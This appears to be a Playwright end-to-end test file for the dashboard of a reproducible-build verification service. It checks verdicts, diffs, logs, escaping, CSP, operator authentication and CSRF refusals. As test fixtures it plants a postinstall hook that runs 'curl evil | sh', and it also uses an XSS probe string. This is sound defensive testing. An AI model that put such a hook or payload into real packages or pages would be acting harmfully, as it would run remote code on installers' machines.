import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chromium, type Browser, type Page } from 'playwright-core';
import { generateKeyPair } from '@quorum/attest';
import { makeGitPackage, packageJson } from '../fixtures/git-package.js';
import { publishFromGit } from '../fixtures/publish.js';
import { Farm, ROOT } from './farm.js';

const INDEX = `'use strict';\nmodule.exports = function greet(name) {\n  return 'hello ' + name;\n};\n`;

/** Debian's Chromium, installed by infra/provision.sh. */
const CHROMIUM = process.env.QUORUM_CHROMIUM ?? '/usr/bin/chromium';

describe('the dashboard, as a person sees it in Chromium', () => {
  const farm = new Farm({ workers: 2, builders: 2, quorum: 2 });
  let browser: Browser;
  let page: Page;
  const ids: Record<string, string> = {};
  const consoleErrors: string[] = [];

  beforeAll(async () => {
    await farm.start();
    // an honest release, a tarball with an added postinstall, a build that fails
    const honest = await makeGitPackage(join(farm.dir, 'src/welcome'), { 'package.json': packageJson('welcome', '1.0.0'), 'index.js': INDEX }, 'v1.0.0');
    await publishFromGit(farm.registry, honest, { how: 'image' });
    const hooked = await makeGitPackage(join(farm.dir, 'src/hooked'), { 'package.json': packageJson('hooked', '2.0.1'), 'index.js': INDEX }, 'v2.0.1');
    await writeFile(join(hooked.dir, 'package.json'), packageJson('hooked', '2.0.1', { scripts: { postinstall: "node -e \"require('child_process').exec('curl evil | sh')\"" } }));
    await publishFromGit(farm.registry, hooked, { how: 'image' });
    const broken = await makeGitPackage(
      join(farm.dir, 'src/broken'),
      { 'package.json': packageJson('broken', '1.0.1', { scripts: { build: 'node -e "console.error(\'compile error: missing semicolon\'); process.exit(3)"' } }), 'index.js': INDEX },
      'v1.0.1',
    );
    // packed on the host without running the build, which fails everywhere
    await publishFromGit(farm.registry, broken, { how: 'host' });
    for (const [name, purl] of [
      ['welcome', 'pkg:npm/welcome@1.0.0'],
      ['hooked', 'pkg:npm/hooked@2.0.1'],
      ['broken', 'pkg:npm/broken@1.0.1'],
    ] as const) {
      ids[name] = (await farm.submitAndDecide({ purl })).id;
    }
    browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox'] });
    page = await browser.newPage();
    // a page that breaks its own policy (a blocked style, image or script) says so in the console
    page.on('console', (m) => {
      if (m.type() === 'error') consoleErrors.push(m.text());
    });
    // nothing may come from anywhere but the coordinator
    await page.route('**/*', (route) => (route.request().url().startsWith(farm.url) ? route.continue() : route.abort()));
  }, 600_000);
  afterAll(async () => {
    await browser?.close();
    await farm.stop();
  }, 60_000);

  it('lists the newest releases with their verdicts in words, and finds a package by name', async () => {
    const errors: string[] = [];
    page.on('requestfailed', (r) => errors.push(r.url()));
    await page.goto(`${farm.url}/`);
    await expect(page.title()).resolves.toBe('Releases · Quorum');
    const rows = page.locator('section[aria-label="Newest releases"] tbody tr');
    await expect(rows.count()).resolves.toBe(3);
    const hookedRow = rows.filter({ hasText: 'pkg:npm/hooked@2.0.1' });
    await expect(hookedRow.locator('mark').textContent()).resolves.toBe('mismatch');
    await expect(rows.filter({ hasText: 'pkg:npm/welcome@1.0.0' }).locator('mark').textContent()).resolves.toBe('reproducible');
    // the farm overview: pictures that say in words what they draw
    const today = new Date().toISOString().slice(0, 10);
    await expect(page.locator('svg[aria-label^="Verdicts per day"]').getAttribute('aria-label')).resolves.toBe(`Verdicts per day: ${today}: reproducible 1, mismatch 1, failed 1`);
    await expect(page.locator('svg[aria-label^="Verdicts per day"] rect').count()).resolves.toBe(3);
    await expect(page.locator('svg[aria-label^="Rebuild durations"]').getAttribute('aria-label')).resolves.toMatch(/succeeded/);
    // every live worker's queue, empty now that every release is decided
    const queues = await page.locator('svg[aria-label^="Queue depth per worker"]').getAttribute('aria-label');
    expect(queues?.match(/[^:;]+: 0 running, 0 waiting/g)).toHaveLength(2);
    if (process.env.QUORUM_UPDATE_SCREENSHOTS) {
      await mkdir(join(ROOT, 'packages/coordinator/docs'), { recursive: true });
      await writeFile(join(ROOT, 'packages/coordinator/docs/home-page.png'), await page.screenshot({ fullPage: true }));
    }
    // the search, with the keyboard only
    await page.keyboard.press('Tab');
    await page.locator('input[name="q"]').focus();
    await page.keyboard.type('welcome');
    await page.keyboard.press('Enter');
    await page.waitForURL(/\/ui\/packages\//);
    await expect(page.locator('h1').textContent()).resolves.toBe('pkg:npm/welcome');
    await expect(page.locator('tbody tr').first().textContent()).resolves.toContain('reproducible');
    expect(errors).toEqual([]);
  });

  it('shows a release as an auditor reads it: verdict, risk, builders, history, and the command to recount it offline', async () => {
    await page.goto(`${farm.url}/ui/releases/${ids.hooked}`);
    await expect(page.locator('hgroup mark').textContent()).resolves.toBe('mismatch');
    await expect(page.locator('article[aria-label="Risk summary"] header').textContent()).resolves.toBe('high risk: install script postinstall added in package.json');
    const builders = page.locator('table.striped tbody tr');
    await expect(builders.count()).resolves.toBe(2);
    await expect(builders.first().textContent()).resolves.toMatch(/succeeded/);
    await expect(builders.first().textContent()).resolves.toMatch(/differs/);
    // the server comes from the operator's setting (QUORUM_PUBLIC_URL), never from the request's Host
    await expect(page.locator('pre code').textContent()).resolves.toContain(`quorum verify 'pkg:npm/hooked@2.0.1' --trust trust.json --server <the coordinator URL>`);
    await expect(page.locator('h2', { hasText: 'Verdict history' }).locator('xpath=following-sibling::div[1]//tbody/tr').first().textContent()).resolves.toContain('mismatch');
    // the picture the README shows, from this very page
    const shot = await page.screenshot({ fullPage: true });
    expect(shot.subarray(1, 4).toString()).toBe('PNG');
    if (process.env.QUORUM_UPDATE_SCREENSHOTS) {
      await mkdir(join(ROOT, 'packages/coordinator/docs'), { recursive: true });
      await writeFile(join(ROOT, 'packages/coordinator/docs/release-page.png'), shot);
    }
  });

  it('shows what differs, line by line, and a build log with the failure marked and searchable', async () => {
    await page.goto(`${farm.url}/ui/releases/${ids.hooked}`);
    await page.getByRole('button', { name: 'What differs' }).click();
    await page.waitForURL(/\/diff$/);
    await expect(page.locator('summary.file-changed').first().textContent()).resolves.toBe('changed package/package.json');
    await expect(page.locator('.d.add').filter({ hasText: 'postinstall' }).count()).resolves.toBeGreaterThan(0);
    // coloured as JSON: the added key is a key, in the colour the stylesheet gives keys
    const key = page.locator('.d.add .hljs-attr').filter({ hasText: 'postinstall' });
    await expect(key.count()).resolves.toBe(1);
    await expect(key.evaluate((el) => getComputedStyle(el).color)).resolves.not.toBe(
      await page
        .locator('.d.add')
        .filter({ hasText: 'postinstall' })
        .evaluate((el) => getComputedStyle(el).color),
    );

    await page.goto(`${farm.url}/ui/releases/${ids.broken}`);
    await expect(page.locator('hgroup mark').textContent()).resolves.toBe('failed');
    await page.locator('table.striped tbody tr').first().getByRole('link', { name: 'log' }).click();
    await page.waitForURL(/\/log$/);
    const failure = page.locator('.line.failure').filter({ hasText: 'compile error: missing semicolon' });
    await expect(failure.count()).resolves.toBeGreaterThan(0);
    await page.locator('input[name="q"]').fill('missing semicolon');
    await page.keyboard.press('Enter');
    await page.waitForURL(/q=missing/);
    await expect(page.locator('.line').count()).resolves.toBeGreaterThan(0);
    for (const text of await page.locator('.line span').allTextContents()) expect(text).toContain('missing semicolon');
  });

  it('lists the workers, fits a phone, escapes what submitters wrote, and answers unknown pages with 404', async () => {
    await page.goto(`${farm.url}/ui/workers`);
    await expect(page.locator('tbody tr').count()).resolves.toBe(2);
    const worker = page.locator('tbody tr').first();
    await expect(worker.textContent()).resolves.toContain('alive');
    // three releases decided: each worker built all three, one build failed, none stood apart
    const cells = await worker.locator('td').allTextContents();
    expect(cells.slice(6, 9)).toEqual(['3', '1', '0 (0%)']);
    await expect(worker.locator('td').nth(9).locator('a').allTextContents()).resolves.toEqual(expect.arrayContaining(['agreed', 'failed']));

    await page.setViewportSize({ width: 390, height: 844 });
    await page.goto(`${farm.url}/ui/releases/${ids.welcome}`);
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
    expect(overflow).toBeLessThanOrEqual(0);
    await page.setViewportSize({ width: 1280, height: 900 });

    // a search for markup is shown as text, never run
    await page.goto(`${farm.url}/ui/search?q=${encodeURIComponent('<img src=x onerror=alert(1)>')}`);
    await expect(page.locator('img').count()).resolves.toBe(0);
    await expect(page.locator('main').textContent()).resolves.toContain('<img src=x onerror=alert(1)>');
    // no page so far broke its policy or failed to load a part
    expect(consoleErrors).toEqual([]);
    const missing = await page.goto(`${farm.url}/ui/releases/00000000-0000-4000-8000-000000000000`);
    expect(missing?.status()).toBe(404);
    await expect(page.locator('h1').textContent()).resolves.toBe('Not found');
    const csp = (await page.goto(`${farm.url}/`))?.headers()['content-security-policy'];
    expect(csp).toContain("default-src 'none'");
  });

  it('keeps the operator pages behind the admin token: enrolment and refusals, and a form no other site can post', async () => {
    // a request signed by a key nobody enrolled, with markup in its path: refused, recorded, shown as text
    const probe = await farm.standIn('probe-1', 'op-probe', 60_000);
    const stranger = generateKeyPair();
    expect((await probe.send('POST', `/v1/rebuilds/${encodeURIComponent('<b>x</b>')}/report`, {}, stranger)).status).toBe(403);
    probe.stop();

    // without the token (a browser would ask for it), or with a wrong one: 401 and the challenge
    const anonymous = await fetch(`${farm.url}/ui/operator`);
    expect(anonymous.status).toBe(401);
    expect(anonymous.headers.get('www-authenticate')).toMatch(/^Basic realm="Quorum operator"/);
    expect(await anonymous.text()).not.toContain('probe-1');
    const wrong = await fetch(`${farm.url}/ui/operator`, { headers: { authorization: `Basic ${Buffer.from('operator:not-the-token').toString('base64')}` } });
    expect(wrong.status).toBe(401);
    // the admin token as a bearer token is the API's way, not the pages'
    expect((await fetch(`${farm.url}/ui/operator`, { headers: { authorization: `Bearer ${farm.adminToken}` } })).status).toBe(401);

    const context = await browser.newContext({ httpCredentials: { username: 'operator', password: farm.adminToken } });
    const op = await context.newPage();
    const opErrors: string[] = [];
    op.on('console', (m) => {
      if (m.type() === 'error') opErrors.push(m.text());
    });
    await op.route('**/*', (route) => (route.request().url().startsWith(farm.url) ? route.continue() : route.abort()));
    const opened = await op.goto(`${farm.url}/ui/operator`);
    expect(opened?.status()).toBe(200);
    expect(opened?.headers()['cache-control']).toBe('no-store');
    const enrolled = op.locator('section#enrolment table').first().locator('tbody tr');
    await expect(enrolled.count()).resolves.toBe(3);
    await expect(enrolled.filter({ hasText: 'probe-1' }).textContent()).resolves.toContain('op-probe');
    const refused = op.locator('section#unauthenticated tbody tr').first();
    await expect(refused.textContent()).resolves.toContain('unenrolled');
    await expect(refused.textContent()).resolves.toContain('%3Cb%3Ex%3C%2Fb%3E');
    await expect(op.locator('section#unauthenticated b').count()).resolves.toBe(0);

    // an enrolment token from the form, with the keyboard
    await op.locator('input[name="workerId"]').fill('worker-9');
    await op.locator('input[name="operator"]').fill('acme');
    await op.locator('input[name="operator"]').press('Enter');
    await op.waitForURL(/\/ui\/operator\/enrolments$/);
    await expect(op.locator('h1').textContent()).resolves.toBe('Enrolment token for worker-9');
    const token = (await op.locator('pre code').first().textContent())!.trim();
    await expect(op.locator('pre code').nth(1).textContent()).resolves.toContain(`QUORUM_ENROL_TOKEN='${token}' QUORUM_WORKER_ID='worker-9' QUORUM_OPERATOR='acme'`);
    await op.goto(`${farm.url}/ui/operator`);
    await expect(op.locator('section#enrolment h3', { hasText: 'Waiting to enrol' }).locator('xpath=following-sibling::table[1]//tbody/tr').first().textContent()).resolves.toContain('worker-9');
    // the token the page showed is the one the coordinator takes
    const key = generateKeyPair();
    const enrol = await fetch(`${farm.url}/v1/workers/worker-9/enrol`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ token, operator: 'acme', publicKey: key.publicKeyPem }),
    });
    expect(enrol.status).toBeLessThan(300);
    await op.reload();
    await expect(enrolled.filter({ hasText: 'worker-9' }).textContent()).resolves.toContain('never seen');

    // another site's page posting with the remembered password: no form token, or the browser says cross-site
    const basic = `Basic ${Buffer.from(`operator:${farm.adminToken}`).toString('base64')}`;
    const form = (fields: Record<string, string>, headers: Record<string, string> = {}) =>
      fetch(`${farm.url}/ui/operator/enrolments`, {
        method: 'POST',
        headers: { authorization: basic, 'content-type': 'application/x-www-form-urlencoded', ...headers },
        body: new URLSearchParams(fields),
      });
    expect((await form({ workerId: 'worker-10', operator: 'mallory' })).status).toBe(403);
    const formToken = await op.locator('input[name="formToken"]').getAttribute('value');
    expect((await form({ workerId: 'worker-10', operator: 'mallory', formToken: formToken! }, { 'sec-fetch-site': 'cross-site' })).status).toBe(403);
    expect((await form({ workerId: 'Not A Worker', operator: 'acme', formToken: formToken! })).status).toBe(400);
    expect((await form({ workerId: 'worker-9', operator: 'acme', formToken: formToken! })).status).toBe(409);
    // the operator pages broke no policy and loaded every part
    expect(opErrors).toEqual([]);
    await context.close();
  });
});
